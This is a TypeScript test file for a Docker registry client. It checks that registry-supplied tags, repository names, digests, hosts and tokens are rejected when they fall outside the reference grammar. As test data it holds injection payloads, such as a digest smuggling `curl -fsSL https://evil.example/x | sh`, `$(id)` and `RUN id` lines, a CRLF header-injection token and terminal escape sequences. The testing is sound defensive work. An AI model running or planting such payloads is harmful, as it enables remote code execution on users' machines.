// Issue 14: tags, repository names and digests a registry sends are checked against Docker's
// reference grammar before anything shows, copies or writes them. A tag holding a newline once
// put a `RUN curl … | sh` line into a Dockerfile through "Use as Base Image".
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { isDigest, isRegistryHost, isRepositoryPath, isTag } from '../../../src/core/dockerfile/imageRef';
import { RegistryClient } from '../../../src/core/registry/client';
import { DockerHubRepositories } from '../../../src/core/registry/dockerHub';
import { registryEndpoint } from '../../../src/core/registry/endpoint';
import { InvalidNameError, MalformedResponseError } from '../../../src/core/registry/errors';
import { MediaType } from '../../../src/core/registry/manifest';
import { putManifest } from '../../../src/core/registry/push';
import { RegistryImageResolver } from '../../../src/core/registry/resolver';
import { json, startFaultServer, type FaultServer, type Handler } from '../../support/faultServer';
import { HOSTILE_TAGS } from '../../support/hostileRegistry';

const DIGEST = `sha256:${'a'.repeat(64)}`;
const sha = (bytes: Uint8Array) => `sha256:${createHash('sha256').update(bytes).digest('hex')}`;

describe('names a registry sends, checked against the reference grammar (unit)', function () {
  this.timeout(10_000);
  let server: FaultServer | undefined;
  const logs: string[] = [];

  async function clientFor(routes: Record<string, Handler>): Promise<RegistryClient> {
    server = await startFaultServer(routes);
    return new RegistryClient(server.host, { retries: 0, timeoutMs: 2000, log: (l) => logs.push(l) });
  }

  afterEach(async () => {
    await server?.close();
    server = undefined;
    logs.length = 0;
  });

  it('knows tags, repository paths, digests and registry hosts', () => {
    assert.deepEqual(['1', 'latest', '1.2.3-alpine_x', '_x', 'x'.repeat(128)].filter(isTag).length, 5);
    assert.deepEqual(HOSTILE_TAGS.filter(isTag), []);
    assert.deepEqual(['app', 'team/app', 'a__b-c.d/e--f', 'library/nginx'].filter(isRepositoryPath).length, 4);
    assert.deepEqual(
      ['Team/App', 'a/../b', 'a//b', '/a', 'a/', 'x y', 'a\nb', `a/${'b'.repeat(255)}`, '_a', 'a_'].filter(
        isRepositoryPath,
      ),
      [],
    );
    assert.deepEqual([DIGEST, `sha512:${'0'.repeat(128)}`, `other:${'0'.repeat(32)}`].filter(isDigest).length, 3);
    const badDigests = [
      'sha256:abc',
      `sha256:${'A'.repeat(64)}`,
      `sha256:${'a'.repeat(63)}`,
      `${DIGEST}\n`,
      `${DIGEST} x`,
      `constructor:${'a'.repeat(64)}x`,
      `1sha:${'a'.repeat(32)}`,
      `sha256:${'a'.repeat(64)}; curl x | sh`,
    ];
    assert.deepEqual(badDigests.filter(isDigest), []);
    assert.deepEqual(
      ['ghcr.io', '127.0.0.1:5000', '[::1]:5000', 'localhost', 'my-registry.example.com:443'].filter(isRegistryHost)
        .length,
      5,
    );
    assert.deepEqual(
      ['', 'a b', 'a\nb', 'evil.com;id', 'a_b.com', '-a.com', 'a.com:', 'a.com:123456', 'x'.repeat(256)].filter(
        isRegistryHost,
      ),
      [],
    );
  });

  it('leaves out of a tag list the tags that are not tags, with one log line that does not show them', async () => {
    const client = await clientFor({
      '/v2/app/tags/list': (_q, res) => json(res, 200, { name: 'app', tags: ['2.0', ...HOSTILE_TAGS, '1.0', '1.0'] }),
    });
    assert.deepEqual((await client.tags('app')).items, ['1.0', '2.0']);
    const lines = logs.filter((l) => l.includes('left out'));
    assert.deepEqual(lines, [
      `${server!.host}: left out ${HOSTILE_TAGS.length} of ${HOSTILE_TAGS.length + 3} entries of repository app that are not valid tags`,
    ]);
    assert.deepEqual(await client.allTags('app'), ['1.0', '2.0']);
  });

  it('leaves out of the catalog the names that are not repository names', async () => {
    const client = await clientFor({
      '/v2/_catalog': (_q, res) =>
        json(res, 200, { repositories: ['team/app', 'Team/App', 'a/../b', 'x\ny', '\u001b[2Jwipe', 'ok'] }),
    });
    assert.deepEqual((await client.catalog()).items, ['ok', 'team/app']);
    assert.equal(logs.filter((l) => l.includes('left out 4 of 6 entries of the repository catalog')).length, 1);
  });

  it('refuses a Docker-Content-Digest that is not a digest, and deletes nothing by it', async () => {
    const hostile = `${DIGEST}; curl -fsSL https://evil.example/x | sh`;
    const client = await clientFor({
      'HEAD /v2/app/manifests/1': (_q, res) => {
        res.writeHead(200, { 'Docker-Content-Digest': hostile, 'Content-Type': MediaType.ociIndex });
        res.end();
      },
      'GET /v2/app/manifests/2': (_q, res) =>
        json(
          res,
          200,
          { schemaVersion: 2, mediaType: MediaType.ociIndex, manifests: [] },
          { 'Docker-Content-Digest': 'sha256:abc $(id)' },
        ),
    });
    await assert.rejects(
      client.headManifest('app', '1'),
      (e: Error) =>
        e instanceof MalformedResponseError &&
        e.message ===
          `${server!.host} sent a malformed answer for tag app:1: its Docker-Content-Digest header is not a digest.`,
    );
    await assert.rejects(client.deleteTag('app', '1'), MalformedResponseError);
    await assert.rejects(client.getManifest('app', '2'), /Docker-Content-Digest header is not a digest/);
    await assert.rejects(client.describe('app', '2'), MalformedResponseError);
    assert.ok(
      server!.requests.every((r) => r.method !== 'DELETE'),
      'no DELETE was sent',
    );
  });

  it('refuses a Docker-Content-Digest that is a digest, but of other bytes', async () => {
    const body = Buffer.from(JSON.stringify({ schemaVersion: 2, mediaType: MediaType.ociIndex, manifests: [] }));
    const client = await clientFor({
      'GET /v2/app/manifests/1': (_q, res) => {
        res.writeHead(200, { 'Docker-Content-Digest': DIGEST, 'Content-Type': MediaType.ociIndex });
        res.end(body);
      },
    });
    await assert.rejects(client.getManifest('app', '1'), /its content does not match its digest/);
    assert.notEqual(sha(body), DIGEST);
  });

  it('leaves platform words, media types, sizes and times that are not what they claim out of the details', async () => {
    const config = Buffer.from(
      JSON.stringify({
        os: 'linux\nRUN id',
        architecture: '\u001b]52;c;eA==\u0007',
        variant: 'v8',
        created: '2024-05-01T10:00:00Z\nFROM evil',
      }),
    );
    const image = Buffer.from(
      JSON.stringify({
        schemaVersion: 2,
        mediaType: MediaType.ociManifest,
        config: { mediaType: 'application/x\nevil', digest: sha(config), size: config.byteLength },
        layers: [{ mediaType: MediaType.ociLayer, digest: DIGEST, size: 10 }],
      }),
    );
    const index = Buffer.from(
      JSON.stringify({
        schemaVersion: 2,
        mediaType: MediaType.ociIndex,
        manifests: [
          {
            mediaType: MediaType.ociManifest,
            digest: DIGEST,
            size: 1,
            platform: { os: 'linux', architecture: 'amd64\u001b[0m', variant: 'v8' },
          },
          {
            mediaType: MediaType.ociManifest,
            digest: DIGEST,
            size: 1,
            platform: { os: 'linux', architecture: 'arm64', variant: 'v8 x' },
            annotations: { a: 'ok', b: 'bad\u001b[0m' },
          },
        ],
      }),
    );
    const negative = Buffer.from(
      JSON.stringify({ schemaVersion: 2, mediaType: MediaType.ociIndex, manifests: [{ digest: DIGEST, size: -1 }] }),
    );
    const client = await clientFor({
      '/v2/app/manifests/image': (_q, res) => {
        res.writeHead(200, { 'Content-Type': MediaType.ociManifest });
        res.end(image);
      },
      [`/v2/app/blobs/${sha(config)}`]: (_q, res) => {
        res.writeHead(200);
        res.end(config);
      },
      '/v2/app/manifests/index': (_q, res) => {
        res.writeHead(200, { 'Content-Type': MediaType.ociIndex });
        res.end(index);
      },
      '/v2/app/manifests/negative': (_q, res) => {
        res.writeHead(200, { 'Content-Type': MediaType.ociIndex });
        res.end(negative);
      },
    });
    const details = await client.describe('app', 'image');
    assert.ok(details.kind === 'image');
    assert.deepEqual(
      [details.os, details.architecture, details.variant, details.created],
      [undefined, undefined, 'v8', undefined],
    );
    const document = await client.getManifest('app', 'image');
    assert.ok(document.manifest.kind === 'image' && document.manifest.config.mediaType === '');
    const described = await client.describe('app', 'index');
    assert.ok(described.kind === 'index');
    assert.deepEqual(
      described.platforms.map((p) => p.platform),
      [undefined, { os: 'linux', architecture: 'arm64' }],
    );
    assert.deepEqual(described.platforms[1].annotations, { a: 'ok' });
    await assert.rejects(client.getManifest('app', 'negative'), /an entry of the index is not a descriptor/);
  });

  it('leaves out of a Docker Hub namespace the names that are not repository names', async () => {
    server = await startFaultServer({
      '/v2/repositories/acme/': (_q, res) =>
        json(res, 200, {
          next: null,
          results: [
            { name: 'api', namespace: 'acme' },
            { name: 'web\nRUN id', namespace: 'acme' },
            { name: 'x', namespace: '\u001b[31macme' },
            { name: 'Up' },
            { name: 'worker' },
          ],
        }),
    });
    const hub = new DockerHubRepositories({ apiBase: server.url, log: (l) => logs.push(l) });
    assert.deepEqual(await hub.list('acme'), { items: ['acme/api', 'acme/worker'] });
    assert.deepEqual(
      logs.filter((l) => l.includes('left out')),
      ['hub.docker.com: left out 3 of 5 entries of namespace acme that are not valid repository names'],
    );
  });

  it('gives the pin fixes only tags and digests, through the resolver', async () => {
    const client = await clientFor({
      '/v2/app/tags/list': (_q, res) => json(res, 200, { tags: ['1.0', '1.1\nRUN id'] }),
      'HEAD /v2/app/manifests/1.0': (_q, res) => {
        res.writeHead(200, { 'Docker-Content-Digest': `${DIGEST} x` });
        res.end();
      },
    });
    const resolver = new RegistryImageResolver({ clientFor: () => client });
    assert.deepEqual(await resolver.listTags(`${server!.host}/app`), ['1.0']);
    assert.equal(await resolver.digest(`${server!.host}/app:1.0`), undefined);
  });

  it('refuses a token that would break its Authorization header, an index too big to walk, and a push digest that is not one', async () => {
    const manifests = Array.from({ length: 1001 }, () => ({
      mediaType: MediaType.ociManifest,
      digest: DIGEST,
      size: 1,
    }));
    const pushed = Buffer.from('{}');
    const client = await clientFor({
      '/v2/app/tags/list': (req, res) =>
        req.headers.authorization
          ? json(res, 200, { tags: ['1'] })
          : json(res, 401, {}, { 'WWW-Authenticate': `Bearer realm="http://${req.headers.host}/token",service="x"` }),
      '/token': (_q, res) => json(res, 200, { token: 'abc\r\nX-Injected: 1' }),
      '/v2/app/manifests/big': (_q, res) =>
        json(res, 200, { schemaVersion: 2, mediaType: MediaType.ociIndex, manifests }),
      'PUT /v2/app/manifests/1': (_q, res) => {
        res.writeHead(201, { 'Docker-Content-Digest': 'sha256:abc $(id)' });
        res.end();
      },
      'PUT /v2/app/manifests/2': (_q, res) => {
        res.writeHead(201, { 'Docker-Content-Digest': DIGEST });
        res.end();
      },
      'PUT /v2/app/manifests/3': (_q, res) => {
        res.writeHead(201, { 'Docker-Content-Digest': sha(pushed) });
        res.end();
      },
    });
    await assert.rejects(
      client.tags('app'),
      (e: Error) =>
        e instanceof MalformedResponseError &&
        e.message ===
          `${server!.host} sent a malformed answer for a token: its token has characters a header cannot carry.`,
    );
    // a client that has not met the token service's challenge
    const anonymous = new RegistryClient(server!.host, { retries: 0, timeoutMs: 2000 });
    await assert.rejects(anonymous.getManifest('app', 'big'), /the index has more than 1000 entries/);
    await assert.rejects(
      putManifest(anonymous, 'app', '1', MediaType.ociManifest, pushed),
      /Docker-Content-Digest header is not the digest of the manifest sent/,
    );
    await assert.rejects(putManifest(anonymous, 'app', '2', MediaType.ociManifest, pushed), MalformedResponseError);
    assert.equal(await putManifest(anonymous, 'app', '3', MediaType.ociManifest, pushed), sha(pushed));
  });

  it('shows a bad name in an error escaped and cut, and takes no registry address outside the grammar', () => {
    const error = new InvalidNameError('127.0.0.1:5000', 'tag or digest', `a\nb\u001b[31m"${'x'.repeat(100)}`);
    assert.ok(![...error.message].some((c) => c.charCodeAt(0) < 0x20), error.message);
    assert.ok(error.message.startsWith('"a\\u{a}b\\u{1b}[31m\\"xxx'), error.message);
    assert.ok(error.message.includes('…" is not a valid tag or digest name for 127.0.0.1:5000'), error.message);
    for (const bad of ['evil.com;id', 'a b', 'reg\u001b[31m.io', 'https://x_y.com/'])
      assert.throws(() => registryEndpoint(bad), /is not a registry address/);
  });
});
